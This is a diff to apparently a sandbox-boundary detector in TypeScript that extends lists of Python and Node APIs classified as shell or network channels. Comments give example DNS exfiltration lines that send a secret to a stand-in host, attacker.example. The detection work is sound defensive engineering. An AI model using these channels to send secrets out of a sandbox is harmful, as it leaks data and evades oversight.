@@ -236,6 +236,8 @@ const LOOP_LOOKUPS = ["getaddrinfo", "getnameinfo"];
 /** Node's dns lookups, by callback (`dns`) or promise (`dns/promises`, `dns.promises`), and a Resolver's. */
 const DNS_QUERIES = ["lookup", "lookupService", "resolve", "resolve4", "resolve6", "resolveAny", "resolveCaa", "resolveCname", "resolveMx", "resolveNaptr", "resolveNs", "resolvePtr", "resolveSoa", "resolveSrv", "resolveTxt", "reverse"];
 const LOOP_CONNECT = ["create_connection", "create_unix_connection", "create_datagram_endpoint", "sock_connect"];
+/** asyncio's process starters, also from its submodule (`asyncio.subprocess.create_subprocess_shell(cmd)`). */
+const ASYNCIO_SUBPROCESS = ["create_subprocess_exec", "create_subprocess_shell"];
 /** ... and start processes (`loop.subprocess_exec(protocol_factory, "ls")`). */
 const LOOP_SUBPROCESS = ["subprocess_exec", "subprocess_shell"];
 /** Each path and its asyncio twin, the last name prefixed (`completion` → `acompletion`, `predictions.get` → `predictions.async_get`). */
@@ -306,7 +308,8 @@ export const DEFAULT_SPECS: readonly BoundarySpec[] = [
   // Invoke's and sh's commands: `invoke.run("ls")`, `sh.ls("-l")` (any member of sh is a program of that name).
   py("invoke", call("run", "sudo", `Context${RETURNED}.run`, `Context${RETURNED}.sudo`), "shell"),
   py("sh", { [ANY]: "call", ...inert("ErrorReturnCode", "SignalException", "CommandNotFound", "TimeoutException") }, "shell"),
-  py("asyncio", call("create_subprocess_exec", "create_subprocess_shell", ...EVENT_LOOPS.flatMap((l) => LOOP_SUBPROCESS.map((m) => `${l}${RETURNED}.${m}`))), "shell"),
+  py("asyncio", call(...ASYNCIO_SUBPROCESS, ...ASYNCIO_SUBPROCESS.map((m) => `subprocess.${m}`), ...EVENT_LOOPS.flatMap((l) => LOOP_SUBPROCESS.map((m) => `${l}${RETURNED}.${m}`))), "shell"),
+  py("asyncio.subprocess", call(...ASYNCIO_SUBPROCESS), "shell"),
   py("asyncio", call("open_connection", "open_unix_connection", ...EVENT_LOOPS.flatMap((l) => LOOP_CONNECT.map((m) => `${l}${RETURNED}.${m}`))), "network"),
   py("pexpect", { ...call("spawn", "spawnu", "run", "runu", "popen_spawn.PopenSpawn"), ...client("pxssh.pxssh") }, "shell"),
   py("ptyprocess", call("PtyProcess.spawn", "PtyProcessUnicode.spawn"), "shell"),
@@ -347,8 +350,11 @@ export const DEFAULT_SPECS: readonly BoundarySpec[] = [
   py("socks", { ...call("create_connection"), ...inert("socksocket"), ...socketUse("socksocket") }, "network"),
   py("aiohttp", { ...client("ClientSession"), ...call("request") }, "network"),
   py("socket", { ...call("create_connection", ...SOCKET_LOOKUPS), ...inert("socket"), ...socketUse("socket") }, "network"),
-  // A TLS connection made to read a server's certificate.
-  py("ssl", call("get_server_certificate"), "network"),
+  // A TLS connection made to read a server's certificate, socket's `create_connection` as ssl re-exports it, and a
+  // wrapped socket connecting (`ctx.wrap_socket(socket.socket(), server_hostname=h).connect(addr)`).
+  py("ssl", call("get_server_certificate", "create_connection", ...["wrap_socket", ...["SSLContext", "create_default_context"].map((c) => `${c}${RETURNED}.wrap_socket`)].flatMap((w) => SOCKET_USE.map((m) => `${w}${RETURNED}.${m}`))), "network"),
+  // multiprocessing's connection to a listener at an address (another host's as well as this one's).
+  py("multiprocessing.connection", client("Client"), "network"),
   // Fabric: an SSH connection to a host, whose `run` starts a shell there.
   py("fabric", client("Connection"), "network"),
   // A name looked up sends a DNS query (a channel out of the sandbox: `loop.getaddrinfo(f"{secret}.attacker.example", 80)`).
@@ -446,9 +452,12 @@ export const DEFAULT_SPECS: readonly BoundarySpec[] = [
   js(GLOBAL, call("XMLHttpRequest"), "network", "new"),
   js("http", call("request", "get"), "network", "call"),
   js("https", call("request", "get"), "network", "call"),
+  // A request made by its class, and an agent's sockets opened by hand (`http.globalAgent.createConnection(opts)`).
+  js("http", call("ClientRequest"), "network", "new"),
+  ...["http", "https"].map((m) => js(m, call("globalAgent.createConnection", `Agent${RETURNED}.createConnection`), "network", "call")),
   js("http2", call("connect"), "network", "call"),
   js("net", call("connect", "createConnection", `Socket${RETURNED}.connect`, `Stream${RETURNED}.connect`), "network", "call"),
-  js("tls", call("connect"), "network", "call"),
+  js("tls", call("connect", `TLSSocket${RETURNED}.connect`), "network", "call"),
   // A DNS query leaves the sandbox (`dns.resolveTxt(\`${secret}.attacker.example\`)`); a Resolver made is one to query with.
   js("dns", { ...call(...DNS_QUERIES, ...DNS_QUERIES.map((m) => `promises.${m}`)), ...client("Resolver", "promises.Resolver") }, "network"),
   js("dns/promises", { ...call(...DNS_QUERIES), ...client("Resolver") }, "network"),
